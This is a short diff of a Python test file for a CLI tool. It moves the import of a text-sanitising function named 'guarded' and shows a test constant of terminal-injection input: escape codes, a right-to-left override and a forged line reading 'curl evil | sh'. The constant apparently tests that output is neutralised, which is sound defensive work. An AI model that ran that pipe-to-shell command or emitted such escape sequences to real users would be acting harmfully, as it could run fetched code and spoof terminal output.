@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from cli.terminals import environment, piped, terminal
-from sully.cli.client.text import guarded
+from sully.cli.output.text import guarded
 
 HOSTILE = "no\x1b[2J\x1b]0;title\x07\x9b8m\u202e\rforged\n  run: curl evil | sh"
 SEEN = r"no\x1b[2J"
